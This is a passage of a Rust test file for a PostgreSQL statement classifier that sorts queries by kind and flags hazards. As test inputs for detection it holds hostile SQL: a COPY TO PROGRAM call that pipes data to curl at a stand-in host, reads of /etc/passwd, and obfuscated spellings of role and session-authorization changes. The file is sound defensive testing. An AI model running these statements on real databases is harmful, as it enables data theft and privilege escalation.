//! Table-driven tests of classification through the public API, hostile spellings included.

use crate::{Analysis, Classifier, Hazard, SessionScoped, StatementKind};

fn analyze(sql: &str) -> Analysis {
    let analysis = Classifier::new(0).analyze(sql);
    assert_eq!(analysis.parse_error, None, "{sql}");
    (*analysis).clone()
}

fn hazards(sql: &str) -> Vec<Hazard> {
    analyze(sql).hazards().cloned().collect()
}

fn set_config(setting: Option<&str>) -> Hazard {
    Hazard::SetConfig {
        setting: setting.map(str::to_owned),
    }
}

fn defines(what: &str) -> Hazard {
    Hazard::FunctionDefinition {
        what: what.to_owned(),
    }
}

fn runs(function: &str) -> Hazard {
    Hazard::RunsSqlText {
        function: function.to_owned(),
    }
}

#[test]
fn kinds_and_commands() {
    use StatementKind::{Admin, Dcl, Ddl, Raw, Read, Session, Transaction, Write};
    let cases = [
        ("SELECT 1", Read, "SELECT"),
        ("select * from t where a = $1", Read, "SELECT"),
        ("VALUES (1), (2)", Read, "SELECT"),
        ("TABLE t", Read, "SELECT"),
        ("SHOW search_path", Read, "SHOW"),
        ("EXPLAIN SELECT 1", Read, "EXPLAIN"),
        ("EXPLAIN DELETE FROM t", Read, "EXPLAIN"),
        ("EXPLAIN (ANALYZE false) DELETE FROM t", Read, "EXPLAIN"),
        (
            "EXPLAIN (ANALYZE off, COSTS) DELETE FROM t",
            Read,
            "EXPLAIN",
        ),
        ("EXPLAIN ANALYZE DELETE FROM t", Write, "EXPLAIN"),
        ("EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t", Write, "EXPLAIN"),
        ("EXPLAIN (ANALYZE true) DELETE FROM t", Write, "EXPLAIN"),
        ("EXPLAIN SELECT pg_terminate_backend(1)", Read, "EXPLAIN"),
        (
            "EXPLAIN ANALYZE SELECT pg_terminate_backend(1)",
            Admin,
            "EXPLAIN",
        ),
        ("COPY t TO STDOUT", Read, "COPY"),
        ("COPY (SELECT * FROM t) TO STDOUT", Read, "COPY"),
        ("COPY t FROM STDIN", Write, "COPY"),
        ("COPY t FROM '/etc/passwd'", Admin, "COPY"),
        ("COPY t TO PROGRAM 'curl evil'", Admin, "COPY"),
        ("INSERT INTO t VALUES (1)", Write, "INSERT"),
        ("UPDATE t SET a = 1", Write, "UPDATE"),
        ("DELETE FROM t", Write, "DELETE"),
        (
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
            Write,
            "MERGE",
        ),
        ("SELECT * FROM t FOR UPDATE", Write, "SELECT"),
        ("SELECT * FROM t FOR SHARE SKIP LOCKED", Write, "SELECT"),
        (
            "SELECT * FROM (SELECT * FROM t FOR UPDATE) s",
            Write,
            "SELECT",
        ),
        ("SELECT nextval('s')", Write, "SELECT"),
        ("SELECT pg_catalog.setval('s', 1)", Write, "SELECT"),
        (
            "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
            Write,
            "SELECT",
        ),
        (
            "SELECT * FROM t WHERE id IN (WITH x AS (INSERT INTO u VALUES (1) RETURNING id) SELECT id FROM x)",
            Write,
            "SELECT",
        ),
        ("SELECT * INTO new_t FROM t", Ddl, "SELECT INTO"),
        ("CREATE TABLE t2 AS SELECT * FROM t", Ddl, "CREATE TABLE AS"),
        ("CREATE TABLE t (id int)", Ddl, "CREATE TABLE"),
        ("ALTER TABLE t ADD COLUMN b int", Ddl, "ALTER TABLE"),
        ("ALTER TABLE t RENAME COLUMN a TO b", Ddl, "ALTER TABLE"),
        ("DROP TABLE t", Ddl, "DROP TABLE"),
        ("DROP VIEW IF EXISTS v", Ddl, "DROP VIEW"),
        ("TRUNCATE t", Ddl, "TRUNCATE TABLE"),
        ("COMMENT ON TABLE t IS 'x'", Ddl, "COMMENT"),
        ("CREATE INDEX ON t (a)", Ddl, "CREATE INDEX"),
        ("CREATE VIEW v AS SELECT 1", Ddl, "CREATE VIEW"),
        (
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'",
            Ddl,
            "CREATE FUNCTION",
        ),
        (
            "CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS ''",
            Ddl,
            "CREATE PROCEDURE",
        ),
        (
            "CREATE AGGREGATE a (int) (sfunc = f, stype = int)",
            Ddl,
            "CREATE AGGREGATE",
        ),
        ("GRANT SELECT ON t TO reader", Dcl, "GRANT"),
        ("REVOKE SELECT ON t FROM reader", Dcl, "REVOKE"),
        ("GRANT admin TO reader", Dcl, "GRANT ROLE"),
        ("CREATE ROLE r", Dcl, "CREATE ROLE"),
        ("ALTER USER r PASSWORD 'x'", Dcl, "ALTER ROLE"),
        ("ALTER ROLE r RENAME TO s", Dcl, "ALTER ROLE"),
        ("DROP ROLE r", Dcl, "DROP ROLE"),
        ("ALTER SYSTEM SET work_mem = '1GB'", Admin, "ALTER SYSTEM"),
        ("CREATE EXTENSION dblink", Admin, "CREATE EXTENSION"),
        ("DROP EXTENSION dblink", Admin, "DROP EXTENSION"),
        ("VACUUM t", Admin, "VACUUM"),
        ("ANALYZE t", Admin, "ANALYZE"),
        ("CHECKPOINT", Admin, "CHECKPOINT"),
        ("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", Admin, "LOCK TABLE"),
        ("SELECT pg_terminate_backend(42)", Admin, "SELECT"),
        ("SELECT pg_catalog.pg_cancel_backend(42)", Admin, "SELECT"),
        ("SELECT pg_reload_conf()", Admin, "SELECT"),
        ("SELECT pg_read_file('/etc/passwd')", Admin, "SELECT"),
        ("SELECT lo_import('/etc/passwd')", Admin, "SELECT"),
        ("SELECT lo_export(1, '/tmp/x')", Admin, "SELECT"),
        (
            "SELECT * FROM dblink('db', 'select 1') AS t(a int)",
            Admin,
            "SELECT",
        ),
        (
            "SELECT query_to_xml('select 1', true, true, '')",
            Raw,
            "SELECT",
        ),
        ("SET search_path = public", Session, "SET"),
        ("RESET work_mem", Session, "RESET"),
        (
            "SELECT set_config('search_path', 'public', false)",
            Session,
            "SELECT",
        ),
        ("DISCARD PLANS", Session, "DISCARD"),
        ("LISTEN ch", Session, "LISTEN"),
        ("NOTIFY ch, 'x'", Session, "NOTIFY"),
        ("UNLISTEN *", Session, "UNLISTEN"),
        ("PREPARE p AS SELECT 1", Session, "PREPARE"),
        ("PREPARE p AS DELETE FROM t", Write, "PREPARE"),
        ("EXECUTE p(1)", Session, "EXECUTE"),
        ("DEALLOCATE ALL", Session, "DEALLOCATE"),
        ("DECLARE c CURSOR FOR SELECT 1", Session, "DECLARE CURSOR"),
        (
            "DECLARE c CURSOR FOR SELECT * FROM t FOR UPDATE",
            Write,
            "DECLARE CURSOR",
        ),
        ("FETCH 10 FROM c", Session, "FETCH"),
        ("CLOSE c", Session, "CLOSE CURSOR"),
        ("BEGIN", Transaction, "BEGIN"),
        (
            "START TRANSACTION ISOLATION LEVEL SERIALIZABLE",
            Transaction,
            "START TRANSACTION",
        ),
        ("COMMIT", Transaction, "COMMIT"),
        ("ROLLBACK", Transaction, "ROLLBACK"),
        ("SAVEPOINT s", Transaction, "SAVEPOINT"),
        ("RELEASE SAVEPOINT s", Transaction, "RELEASE"),
        ("ROLLBACK TO SAVEPOINT s", Transaction, "ROLLBACK"),
        (
            "PREPARE TRANSACTION 'x'",
            Transaction,
            "PREPARE TRANSACTION",
        ),
        ("COMMIT PREPARED 'x'", Admin, "COMMIT PREPARED"),
        ("DO $$ BEGIN END $$", Raw, "DO"),
        ("CALL p(1)", Write, "CALL"),
        (
            "REFRESH MATERIALIZED VIEW mv",
            Write,
            "REFRESH MATERIALIZED VIEW",
        ),
    ];
    for (sql, kind, command) in cases {
        let analysis = analyze(sql);
        assert_eq!(analysis.statements.len(), 1, "{sql}");
        let facts = &analysis.statements[0];
        assert_eq!(
            (facts.kind, facts.command.as_str()),
            (kind, command),
            "{sql}"
        );
        assert_eq!(analysis.kind(), kind, "{sql}");
    }
}

#[test]
fn hazards_in_every_spelling_and_position() {
    let cases: Vec<(&str, Vec<Hazard>)> = vec![
        // Role changes.
        ("SET ROLE admin", vec![Hazard::RoleChange]),
        ("set role none", vec![Hazard::RoleChange]),
        ("SET SESSION ROLE admin", vec![Hazard::RoleChange]),
        ("SET LOCAL ROLE admin", vec![Hazard::RoleChange]),
        ("RESET ROLE", vec![Hazard::RoleChange]),
        ("SET role TO 'admin'", vec![Hazard::RoleChange]),
        ("SET \"role\" = admin", vec![Hazard::RoleChange]),
        ("SET \"ROLE\" TO admin", vec![Hazard::RoleChange]),
        ("SET role TO DEFAULT", vec![Hazard::RoleChange]),
        (
            "ALTER ROLE me SET role = admin",
            vec![Hazard::AlterRole, Hazard::RoleChange],
        ),
        (
            "ALTER DATABASE d SET role = admin",
            vec![Hazard::RoleChange],
        ),
        (
            "CREATE FUNCTION f() RETURNS int SET role = admin LANGUAGE sql AS 'select 1'",
            vec![defines("CREATE FUNCTION"), Hazard::RoleChange],
        ),
        // Session authorization.
        (
            "SET SESSION AUTHORIZATION admin",
            vec![Hazard::SessionAuthorization],
        ),
        (
            "SET SESSION AUTHORIZATION DEFAULT",
            vec![Hazard::SessionAuthorization],
        ),
        (
            "RESET SESSION AUTHORIZATION",
            vec![Hazard::SessionAuthorization],
        ),
        (
            "SET session_authorization = admin",
            vec![Hazard::SessionAuthorization],
        ),
        (
            "SET \"Session_Authorization\" TO admin",
            vec![Hazard::SessionAuthorization],
        ),
        // RESET ALL / DISCARD ALL.
        ("RESET ALL", vec![Hazard::ResetAll]),
        ("ALTER ROLE me RESET ALL", vec![Hazard::AlterRole]),
        ("ALTER DATABASE d RESET ALL", vec![]),
        ("DISCARD ALL", vec![Hazard::DiscardAll]),
        ("DISCARD PLANS", vec![]),
        ("DISCARD SEQUENCES", vec![]),
        ("DISCARD TEMP", vec![]),
        // postern.* settings.
        (
            "SET postern.claims = '{}'",
            vec![Hazard::PosternSetting {
                name: "postern.claims".into(),
            }],
        ),
        (
            "SET LOCAL \"Postern\".\"Claims\" TO 'x'",
            vec![Hazard::PosternSetting {
                name: "postern.claims".into(),
            }],
        ),
        (
            "RESET POSTERN.anything",
            vec![Hazard::PosternSetting {
                name: "postern.anything".into(),
            }],
        ),
        ("SET posternx.y = 1", vec![]),
        // set_config in every spelling and position.
        (
            "SELECT set_config('role', 'admin', false)",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT pg_catalog.set_config('ROLE', 'admin', false)",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT \"pg_catalog\".\"set_config\"('role', 'x', false)",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT SET_CONFIG('role', 'x', false)",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT set_config(E'\\x72ole', 'x', false)",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT set_config(U&'\\0072ole', 'x', false)",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT set_config($$role$$, 'x', false)",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT set_config(new_value => 'x', setting_name => 'role', is_local => false)",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT set_config('ro'||'le', 'x', false)",
            vec![set_config(None)],
        ),
        ("SELECT set_config($1, 'x', false)", vec![set_config(None)]),
        (
            "SELECT set_config('role'::text, 'x', false)",
            vec![set_config(None)],
        ),
        (
            "SELECT set_config(lower('ROLE'), 'x', false)",
            vec![set_config(None)],
        ),
        (
            "SELECT set_config(name, 'x', false) FROM t",
            vec![set_config(None)],
        ),
        (
            "SELECT set_config('postern.claims', 'x', false)",
            vec![set_config(Some("postern.claims"))],
        ),
        (
            "SELECT set_config('application_name', 'x', false)",
            vec![set_config(Some("application_name"))],
        ),
        (
            "SELECT * FROM set_config('role', 'x', false)",
            vec![set_config(Some("role"))],
        ),
        (
            "WITH x AS (SELECT set_config('role', 'a', false)) SELECT * FROM x",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT * FROM t WHERE a = (SELECT set_config('role', 'a', false))",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT * FROM (SELECT * FROM (SELECT set_config('role', 'a', false)) a) b",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT CASE WHEN true THEN set_config('role', 'a', true) END",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT count(*) FILTER (WHERE set_config('role', 'a', true) IS NULL) FROM t",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT * FROM t ORDER BY set_config('role', 'a', true)",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT * FROM t JOIN u ON set_config('role', 'a', true) IS NOT NULL",
            vec![set_config(Some("role"))],
        ),
        (
            "INSERT INTO t VALUES (set_config('role', 'a', false))",
            vec![set_config(Some("role"))],
        ),
        (
            "UPDATE t SET a = 1 RETURNING set_config('role', 'a', false)",
            vec![set_config(Some("role"))],
        ),
        (
            "DECLARE c CURSOR FOR SELECT set_config('role', 'a', false)",
            vec![set_config(Some("role"))],
        ),
        (
            "COPY (SELECT set_config('role', 'a', false)) TO STDOUT",
            vec![set_config(Some("role"))],
        ),
        (
            "EXPLAIN ANALYZE SELECT set_config('role', 'a', false)",
            vec![set_config(Some("role"))],
        ),
        (
            "EXPLAIN SELECT set_config('role', 'a', false)",
            vec![set_config(Some("role"))],
        ),
        (
            "PREPARE p AS SELECT set_config('role', 'a', false)",
            vec![set_config(Some("role"))],
        ),
        (
            "CREATE RULE r AS ON INSERT TO t DO ALSO SELECT set_config('role', 'a', false)",
            vec![defines("CREATE RULE"), set_config(Some("role"))],
        ),
        (
            "SELECT array_agg(x ORDER BY set_config('role', 'a', false)) FROM t",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT * FROM t WINDOW w AS (PARTITION BY set_config('role', 'a', false))",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT * FROM t LIMIT (SELECT length(set_config('role', 'a', false)))",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT * FROM t GROUP BY ROLLUP (set_config('role', 'a', false))",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT * FROM xmltable('/a' PASSING (set_config('role', 'a', false)::xml) COLUMNS a int)",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT json_object('k': set_config('role', 'a', false))",
            vec![set_config(Some("role"))],
        ),
        (
            "MERGE INTO t USING s ON true WHEN MATCHED THEN UPDATE SET a = set_config('role', 'a', false)",
            vec![set_config(Some("role"))],
        ),
        (
            "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = set_config('role', 'a', false)",
            vec![set_config(Some("role"))],
        ),
        // standard_conforming_strings.
        (
            "SET standard_conforming_strings = off",
            vec![Hazard::StandardConformingStringsOff],
        ),
        (
            "SET standard_conforming_strings TO false",
            vec![Hazard::StandardConformingStringsOff],
        ),
        (
            "SET standard_conforming_strings = 0",
            vec![Hazard::StandardConformingStringsOff],
        ),
        (
            "SET standard_conforming_strings = 'off'",
            vec![Hazard::StandardConformingStringsOff],
        ),
        (
            "SET LOCAL \"STANDARD_CONFORMING_STRINGS\" = no",
            vec![Hazard::StandardConformingStringsOff],
        ),
        ("SET standard_conforming_strings = on", vec![]),
        ("SET standard_conforming_strings = 'true'", vec![]),
        ("SET standard_conforming_strings TO DEFAULT", vec![]),
        ("RESET standard_conforming_strings", vec![]),
        (
            "SELECT set_config('standard_conforming_strings', 'off', false)",
            vec![
                Hazard::StandardConformingStringsOff,
                set_config(Some("standard_conforming_strings")),
            ],
        ),
        (
            "SELECT set_config('standard_conforming_strings', $1, false)",
            vec![
                Hazard::StandardConformingStringsOff,
                set_config(Some("standard_conforming_strings")),
            ],
        ),
        (
            "SELECT set_config('standard_conforming_strings', 'on', false)",
            vec![set_config(Some("standard_conforming_strings"))],
        ),
        (
            "ALTER ROLE me SET standard_conforming_strings = off",
            vec![Hazard::AlterRole, Hazard::StandardConformingStringsOff],
        ),
        // pg_settings.
        (
            "UPDATE pg_settings SET setting = 'admin' WHERE name = 'role'",
            vec![Hazard::PgSettingsWrite],
        ),
        (
            "update pg_catalog.pg_settings set setting = 'off'",
            vec![Hazard::PgSettingsWrite],
        ),
        (
            "WITH u AS (UPDATE pg_settings SET setting = 'x' RETURNING 1) SELECT * FROM u",
            vec![Hazard::PgSettingsWrite],
        ),
        (
            "INSERT INTO pg_settings (name) VALUES ('x')",
            vec![Hazard::PgSettingsWrite],
        ),
        ("SELECT * FROM pg_settings", vec![]),
        // client_encoding.
        (
            "SET client_encoding = 'SJIS'",
            vec![Hazard::ClientEncoding {
                name: "SJIS".into(),
            }],
        ),
        (
            "SET NAMES 'big5'",
            vec![Hazard::ClientEncoding {
                name: "big5".into(),
            }],
        ),
        (
            "SET client_encoding TO Shift_JIS_2004",
            vec![Hazard::ClientEncoding {
                name: "shift_jis_2004".into(),
            }],
        ),
        ("SET client_encoding = 'UTF8'", vec![]),
        ("SET NAMES 'latin1'", vec![]),
        ("SET client_encoding TO DEFAULT", vec![]),
        (
            "SELECT set_config('client_encoding', 'GBK', false)",
            vec![
                Hazard::ClientEncoding { name: "GBK".into() },
                set_config(Some("client_encoding")),
            ],
        ),
        // DO, CALL, roles.
        ("DO $$ BEGIN PERFORM 1; END $$", vec![Hazard::DoBlock]),
        ("DO LANGUAGE plpgsql 'BEGIN END'", vec![Hazard::DoBlock]),
        ("CALL p()", vec![Hazard::Call]),
        ("CREATE USER u", vec![Hazard::AlterRole]),
        ("CREATE GROUP g", vec![Hazard::AlterRole]),
        ("ALTER USER u WITH SUPERUSER", vec![Hazard::AlterRole]),
        ("ALTER ROLE u PASSWORD 'x'", vec![Hazard::AlterRole]),
        ("ALTER ROLE u RENAME TO v", vec![Hazard::AlterRole]),
        ("ALTER GROUP g ADD USER u", vec![Hazard::AlterRole]),
        ("DROP USER IF EXISTS u", vec![Hazard::AlterRole]),
        ("GRANT admin TO me", vec![Hazard::AlterRole]),
        ("REVOKE admin FROM me", vec![Hazard::AlterRole]),
        ("GRANT SELECT ON t TO me", vec![]),
        // Definitions of code and stored expressions.
        (
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'",
            vec![defines("CREATE FUNCTION")],
        ),
        (
            "CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS ''",
            vec![defines("CREATE PROCEDURE")],
        ),
        (
            "ALTER FUNCTION f() SECURITY DEFINER",
            vec![defines("ALTER FUNCTION")],
        ),
        ("CREATE VIEW v AS SELECT 1", vec![defines("CREATE VIEW")]),
        (
            "CREATE OR REPLACE TEMP VIEW v AS SELECT 1",
            vec![defines("CREATE VIEW")],
        ),
        (
            "CREATE MATERIALIZED VIEW v AS SELECT 1",
            vec![defines("CREATE MATERIALIZED VIEW")],
        ),
        (
            "CREATE RULE r AS ON SELECT TO t DO INSTEAD SELECT 1",
            vec![defines("CREATE RULE")],
        ),
        (
            "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()",
            vec![defines("CREATE TRIGGER")],
        ),
        (
            "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()",
            vec![defines("CREATE EVENT TRIGGER")],
        ),
        ("CREATE DOMAIN d AS int", vec![defines("CREATE DOMAIN")]),
        (
            "CREATE AGGREGATE a (int) (sfunc = f, stype = int)",
            vec![defines("CREATE AGGREGATE")],
        ),
        (
            "CREATE OPERATOR === (function = f, leftarg = int, rightarg = int)",
            vec![defines("CREATE OPERATOR")],
        ),
        (
            "CREATE CAST (int AS text) WITH FUNCTION f(int)",
            vec![defines("CREATE CAST")],
        ),
        (
            "CREATE TABLE t (a int DEFAULT f())",
            vec![defines("a column DEFAULT expression that calls a function")],
        ),
        (
            "CREATE TABLE t (a int GENERATED ALWAYS AS (f(b)) STORED, b int)",
            vec![defines(
                "a GENERATED column expression that calls a function",
            )],
        ),
        (
            "CREATE TABLE t (a int CHECK (f(a)))",
            vec![defines("a CHECK constraint that calls a function")],
        ),
        (
            "CREATE TABLE t (a int, CONSTRAINT c CHECK (a > g()))",
            vec![defines("a CHECK constraint that calls a function")],
        ),
        (
            "CREATE TABLE t (a int DEFAULT 1 CHECK (a > 0), b text DEFAULT 'x')",
            vec![],
        ),
        (
            "ALTER TABLE t ALTER COLUMN a SET DEFAULT f()",
            vec![defines("a column DEFAULT expression that calls a function")],
        ),
        ("ALTER TABLE t ALTER COLUMN a SET DEFAULT 0", vec![]),
        (
            "ALTER TABLE t ADD COLUMN b int DEFAULT f()",
            vec![defines("a column DEFAULT expression that calls a function")],
        ),
        (
            "ALTER TABLE t ADD COLUMN b int GENERATED ALWAYS AS (f(a)) STORED",
            vec![defines(
                "a GENERATED column expression that calls a function",
            )],
        ),
        (
            "ALTER TABLE t ADD CONSTRAINT c CHECK (f(a))",
            vec![defines("a CHECK constraint that calls a function")],
        ),
        (
            "ALTER TABLE t ALTER COLUMN a TYPE bigint USING f(a)",
            vec![],
        ),
        (
            "CREATE INDEX ON t ((f(a)))",
            vec![defines("an index expression that calls a function")],
        ),
        (
            "CREATE INDEX ON t (a) WHERE f(a)",
            vec![defines("an index predicate that calls a function")],
        ),
        ("CREATE INDEX ON t (a)", vec![]),
        (
            "CREATE POLICY p ON t USING (f(owner))",
            vec![defines(
                "a row-level security policy expression that calls a function",
            )],
        ),
        ("CREATE POLICY p ON t USING (owner = current_user)", vec![]),
        (
            "CREATE TABLE t (a int) PARTITION BY RANGE (f(a))",
            vec![defines("a partition key expression that calls a function")],
        ),
        (
            "INSERT INTO t VALUES (1) ON CONFLICT ((lower(a))) DO NOTHING",
            vec![],
        ),
        // Functions that run SQL text.
        (
            "SELECT query_to_xml('select 1', true, true, '')",
            vec![runs("query_to_xml")],
        ),
        (
            "SELECT pg_catalog.QUERY_TO_XML_AND_XMLSCHEMA('select 1', true, true, '')",
            vec![runs("pg_catalog.query_to_xml_and_xmlschema")],
        ),
        (
            "SELECT cursor_to_xml('c', 1, true, true, '')",
            vec![runs("cursor_to_xml")],
        ),
        (
            "SELECT table_to_xml('t', true, true, '')",
            vec![runs("table_to_xml")],
        ),
        (
            "SELECT database_to_xml(true, true, '')",
            vec![runs("database_to_xml")],
        ),
        (
            "SELECT * FROM ts_stat('select v from t')",
            vec![runs("ts_stat")],
        ),
        (
            "SELECT ts_rewrite('a & b'::tsquery, 'select t, s from aliases')",
            vec![runs("ts_rewrite")],
        ),
        (
            "SELECT ts_rewrite('a'::tsquery, 'a'::tsquery, 'b'::tsquery)",
            vec![],
        ),
        (
            "SELECT * FROM dblink('db', 'select 1') AS t(a int)",
            vec![runs("dblink")],
        ),
        (
            "SELECT dblink_exec('db', 'set role admin')",
            vec![runs("dblink_exec")],
        ),
        (
            "SELECT public.dblink_open('c', 'select 1')",
            vec![runs("public.dblink_open")],
        ),
        (
            "SELECT cron.schedule('* * * * *', 'select 1')",
            vec![runs("cron.schedule")],
        ),
        (
            "SELECT * FROM t WHERE EXISTS (SELECT query_to_xml($1, true, true, ''))",
            vec![runs("query_to_xml")],
        ),
        // Nothing to see.
        ("SELECT current_setting('role')", vec![]),
        ("SHOW role", vec![]),
        (
            "SET search_path = public, pg_catalog",
            vec![Hazard::SearchPath {
                schemas: Some(vec!["public".into(), "pg_catalog".into()]),
            }],
        ),
        (
            "RESET search_path",
            vec![Hazard::SearchPath {
                schemas: Some(vec![]),
            }],
        ),
        (
            "SELECT set_config('search_path', 'Archive, \"Mixed\"', false)",
            vec![
                Hazard::SearchPath {
                    schemas: Some(vec!["archive".into(), "Mixed".into()]),
                },
                Hazard::SetConfig {
                    setting: Some("search_path".into()),
                },
            ],
        ),
        (
            "SELECT set_config('search_path', current_user, false)",
            vec![
                Hazard::SearchPath { schemas: None },
                Hazard::SetConfig {
                    setting: Some("search_path".into()),
                },
            ],
        ),
        ("SET application_name = 'x'", vec![]),
    ];
    let failures: Vec<String> = cases
        .into_iter()
        .filter_map(|(sql, want)| {
            let got = hazards(sql);
            (got != want).then(|| format!("{sql}\n   got  {got:?}\n   want {want:?}"))
        })
        .collect();
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn multi_statement_text_is_classified_per_statement() {
    let analysis = analyze("SELECT 1; SELECT set_config('role', 'admin', false); COMMIT");
    assert_eq!(analysis.statements.len(), 3);
    assert!(analysis.statements[0].hazards.is_empty());
    assert_eq!(
        analysis.statements[1].hazards,
        vec![set_config(Some("role"))]
    );
    assert_eq!(analysis.statements[2].kind, StatementKind::Transaction);
    assert_eq!(analysis.kind(), StatementKind::Session);
    assert_eq!(
        analysis.hazards().collect::<Vec<_>>(),
        vec![&set_config(Some("role"))]
    );

    let analysis = analyze("BEGIN; DELETE FROM t; SET ROLE admin; COMMIT;");
    let kinds: Vec<_> = analysis.statements.iter().map(|s| s.kind).collect();
    assert_eq!(
        kinds,
        [
            StatementKind::Transaction,
            StatementKind::Write,
            StatementKind::Session,
            StatementKind::Transaction
        ]
    );
    assert_eq!(analysis.statements[2].hazards, vec![Hazard::RoleChange]);
    assert_eq!(analysis.kind(), StatementKind::Write);
}

#[test]
fn tables_and_functions() {
    let analysis = analyze(
        "WITH recent AS (SELECT * FROM app.orders WHERE at > now()) \
         SELECT count(*), Lower(c.name), pg_catalog.upper(c.name) \
         FROM recent JOIN customers c ON c.id = recent.customer_id \
         WHERE c.id IN (SELECT customer_id FROM db.billing.invoices)",
    );
    let facts = &analysis.statements[0];
    let mut tables = facts.tables.clone();
    tables.sort();
    assert_eq!(tables, ["app.orders", "customers", "db.billing.invoices"]);
    let mut functions = facts.functions.clone();
    functions.sort();
    assert_eq!(functions, ["count", "lower", "now", "pg_catalog.upper"]);

    // A non-recursive CTE does not see itself: the inner `secrets` is the table.
    let facts =
        &analyze("WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets").statements[0];
    assert_eq!(facts.tables, ["secrets"]);
    // A recursive one does.
    let facts =
        &analyze("WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT * FROM r) SELECT * FROM r")
            .statements[0];
    assert!(facts.tables.is_empty());
    // Later CTEs see earlier ones, but a CTE's scope ends with its statement.
    let facts = &analyze(
        "SELECT * FROM (WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b) s, a",
    )
    .statements[0];
    assert_eq!(facts.tables, ["a"]);
    // The target of a data-modifying statement is always a table, even if a CTE shares its name.
    let facts = &analyze("WITH t AS (SELECT 1) INSERT INTO t SELECT * FROM t").statements[0];
    assert_eq!(facts.tables, ["t"]);
    // Tables in DDL, DML targets, COPY, LOCK.
    let facts = &analyze("INSERT INTO audit.log SELECT * FROM staging").statements[0];
    assert_eq!(facts.tables, ["audit.log", "staging"]);
    let facts = &analyze("LOCK TABLE a, b.c").statements[0];
    assert_eq!(facts.tables, ["a", "b.c"]);
    // Relations that DROP, COMMENT and SECURITY LABEL name as lists of names; for objects
    // that live on a table, that table.
    for (sql, tables) in [
        ("DROP TABLE a, s.b, db.s.c", &["a", "s.b", "db.s.c"][..]),
        ("DROP VIEW IF EXISTS v CASCADE", &["v"]),
        ("DROP MATERIALIZED VIEW s.m", &["s.m"]),
        ("DROP SEQUENCE q", &["q"]),
        ("DROP FOREIGN TABLE f", &["f"]),
        ("DROP INDEX CONCURRENTLY s.i", &["s.i"]),
        ("DROP TRIGGER t ON s.orders", &["s.orders"]),
        ("DROP RULE r ON orders", &["orders"]),
        ("DROP POLICY p ON \"Orders\"", &["Orders"]),
        ("COMMENT ON TABLE orders IS 'x'", &["orders"]),
        ("COMMENT ON COLUMN s.orders.amount IS 'x'", &["s.orders"]),
        ("COMMENT ON CONSTRAINT c ON orders IS NULL", &["orders"]),
        ("COMMENT ON TRIGGER t ON orders IS 'x'", &["orders"]),
        ("SECURITY LABEL FOR p ON TABLE orders IS 'x'", &["orders"]),
        (
            "SECURITY LABEL FOR p ON COLUMN orders.amount IS 'x'",
            &["orders"],
        ),
        ("DROP FUNCTION f(int)", &[]),
        ("DROP SCHEMA s", &[]),
        ("DROP TYPE t", &[]),
        ("COMMENT ON SCHEMA s IS 'x'", &[]),
        ("COMMENT ON FUNCTION f() IS 'x'", &[]),
    ] {
        assert_eq!(analyze(sql).statements[0].tables, tables, "{sql}");
    }
    let facts = &analyze("CALL app.do_things(1)").statements[0];
    assert_eq!(facts.functions, ["app.do_things"]);
}

#[test]
fn unparseable_text_is_a_parse_error() {
    let classifier = Classifier::new(8);
    for sql in [
        "garbage",
        "SELECT FROM WHERE",
        "SELECT 'unterminated",
        "SELECT 1; SELEC 2",
        "SET ROLE",
        "SELECT 1\0",
    ] {
        let analysis = classifier.analyze(sql);
        assert!(analysis.parse_error.is_some(), "{sql}");
        assert!(analysis.statements.is_empty(), "{sql}");
        assert_eq!(analysis.kind(), StatementKind::Raw, "{sql}");
    }
    assert_eq!(
        classifier.analyze("garbage").parse_error.as_deref(),
        Some("syntax error at or near \"garbage\"")
    );
}

#[test]
fn empty_text_has_no_statements() {
    for sql in ["", "  ", ";", " ; ; ", "-- just a comment", "/* c */"] {
        let analysis = analyze(sql);
        assert!(analysis.statements.is_empty(), "{sql:?}");
        assert_eq!(analysis.kind(), StatementKind::Read);
    }
}

#[test]
fn fingerprint_groups_texts_that_differ_in_constants() {
    let a = analyze("SELECT * FROM t WHERE id = 1");
    let b = analyze("select *  from t where id = 42");
    assert!(a.fingerprint.is_some());
    assert_eq!(a.fingerprint, b.fingerprint);
    assert_ne!(
        a.fingerprint,
        analyze("SELECT * FROM u WHERE id = 1").fingerprint
    );
}

#[test]
fn prepared_statement_and_cursor_names() {
    use crate::PreparedName;
    let named = |sql: &str| analyze(sql).statements[0].prepared.clone();
    assert_eq!(
        named("PREPARE \"Q1\" AS SELECT 1"),
        Some(PreparedName::Prepare("Q1".into()))
    );
    assert_eq!(
        named("EXECUTE q1(1)"),
        Some(PreparedName::Execute("q1".into()))
    );
    assert_eq!(
        named("DEALLOCATE ALL"),
        Some(PreparedName::Deallocate(None))
    );
    assert_eq!(
